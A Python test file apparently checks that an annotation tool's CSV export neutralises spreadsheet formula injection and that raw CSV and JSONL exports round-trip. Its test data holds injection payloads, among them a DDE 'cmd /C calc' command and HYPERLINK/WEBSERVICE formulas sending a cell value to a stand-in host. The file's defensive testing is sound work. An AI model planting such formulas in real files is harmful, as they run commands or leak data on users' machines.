"""Gate 14: four hundred texts that a spreadsheet might run, to files and back again."""

import csv
import io
import json
from itertools import product
from pathlib import Path

import pytest
from django.test import Client

from annotation.formats.mapping import from_words
from annotation.formats.registry import open_source
from annotation.models import Item, Project
from annotation.services.imports.loading import Load
from annotation.services.imports.sources import load_source
from evalhub.accounts.models import User
from tests.factories.projects import make_item

BEFORE = ("", " ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\n", " \t")
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=")
FORMULAS = (
    "1+1",
    'HYPERLINK("https://canary.test/?"&A1,"Open")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://canary.test/")',
    "SUM(A1:A9)*2\n=1+1",
)
TEXTS = [before + start + body for before, start, body in product(BEFORE, STARTS, FORMULAS)]
BLANK = " \u00a0\u3000\ufeff\u200b\n\v\f"


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula; written without evalhub's own rule."""
    start = cell.lstrip(BLANK)[:1]
    return start != "" and start in "=+-@\t\r\0\uff1d\uff0b\uff0d\uff20"


@pytest.fixture
def texts(project: Project) -> list[str]:
    """Each is the input of an Item; returned in the order of the list."""
    for n, text in enumerate(TEXTS):
        make_item(project, f"f{n:03}", outputs=0, input=text, metadata={text: text})
    return TEXTS


def download(maya: User, form: str) -> bytes:
    client = Client()
    client.force_login(maya)
    answer = client.get(f"/projects/refunds/items/download/{form}/")
    assert answer.status_code == 200
    return b"".join(answer)


def loaded_again(path: Path, *words: str) -> list[str]:
    source = open_source(path)
    mapping = from_words(
        ("id=id", "input=input", "output=", *words), source.guess(source.sample(), None)
    )
    load_source(source, Load("again"), mapping=mapping)
    return list(
        Item.objects.filter(project__slug="again").order_by("key").values_list("input", flat=True)
    )


def test_no_cell_of_a_safe_csv_runs_and_all_come_back(
    texts: list[str], maya: User, tmp_path: Path
) -> None:
    assert len(texts) >= 400
    content = download(maya, "csv")
    cells = [cell for row in csv.reader(io.StringIO(content.decode(), newline="")) for cell in row]
    assert [cell for cell in cells if runs(cell)] == []
    path = tmp_path / "refunds-items.csv"
    path.write_bytes(content)
    assert loaded_again(path) == texts


def test_raw_csv_and_jsonl_come_back_as_they_are(
    texts: list[str], maya: User, tmp_path: Path
) -> None:
    rows = [json.loads(line) for line in download(maya, "jsonl").splitlines()]
    assert [row["input"] for row in rows] == texts
    assert [row["metadata"] for row in rows] == [{text: text} for text in texts]
    path = tmp_path / "refunds-items.raw.csv"
    path.write_bytes(download(maya, "csv-raw"))
    assert loaded_again(path) == texts
